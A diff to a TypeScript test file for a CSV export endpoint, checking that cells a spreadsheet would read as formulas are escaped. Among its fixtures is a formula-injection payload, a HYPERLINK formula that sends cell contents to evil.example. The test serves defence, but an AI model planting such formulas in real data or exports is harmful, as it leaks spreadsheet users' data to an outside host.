@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { auth, createAgent, registerUser, type TestApp, useSharedTestApp } from '../helpers/app.js';
 import { toCsv } from '../../src/modules/leads/csv.js';
+import { parseCsv } from '../helpers/csv.js';
 
 /**
  * CSV exports (issue 22.6, issue 31 abuse 1): every cell starting with `=`, `+`, `-`, `@`, a tab
@@ -9,36 +10,6 @@ import { toCsv } from '../../src/modules/leads/csv.js';
  */
 
 type Json = Record<string, any>;
-
-/** RFC 4180 reader: quoted fields may hold commas, CRLF and doubled quotes. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(field);
-      field = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += c;
-  }
-  if (field !== '' || row.length > 0) throw new Error('the last line does not end with CRLF');
-  return rows;
-}
 
 let t: TestApp;
 let token: string;
@@ -60,16 +31,19 @@ async function csv(url: string): Promise<{ text: string; rows: string[][] }> {
 describe('GET /api/chatbot-leads/{id}/export.csv', () => {
   it('escapes every cell a spreadsheet would read as a formula, phone numbers too; quotes per RFC 4180', async () => {
     const agent = await createAgent(t.app, token);
-    const leads: Array<{ name: string; phone: string }> = [
-      { name: 'Anna de Vries', phone: '+31 20 123 4567' },
-      { name: 'Bob', phone: '+1-555-0100' },
-      { name: 'Chris', phone: '+44 (0)20 7946 0958' },
-      { name: 'Dana', phone: '020 123 4567' },
-      { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', phone: '0612345678' },
-      { name: '@SUM(1)', phone: '+31 6 1234 5678' },
-      { name: '-2+3', phone: '-2+3' },
-      { name: 'Doe, "JJ" Jr', phone: '+1 555 CALL NOW' },
-    ];
+    // [name, phone]
+    const leads = (
+      [
+        ['Anna de Vries', '+31 20 123 4567'],
+        ['Bob', '+1-555-0100'],
+        ['Chris', '+44 (0)20 7946 0958'],
+        ['Dana', '020 123 4567'],
+        ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '0612345678'],
+        ['@SUM(1)', '+31 6 1234 5678'],
+        ['-2+3', '-2+3'],
+        ['Doe, "JJ" Jr', '+1 555 CALL NOW'],
+      ] as const
+    ).map(([name, phone]) => ({ name, phone }));
     const made: Json[] = [];
     for (const lead of leads) {
       const res = await t.app.inject({ method: 'POST', url: `/api/public/lead/${agent.id}`, payload: lead });
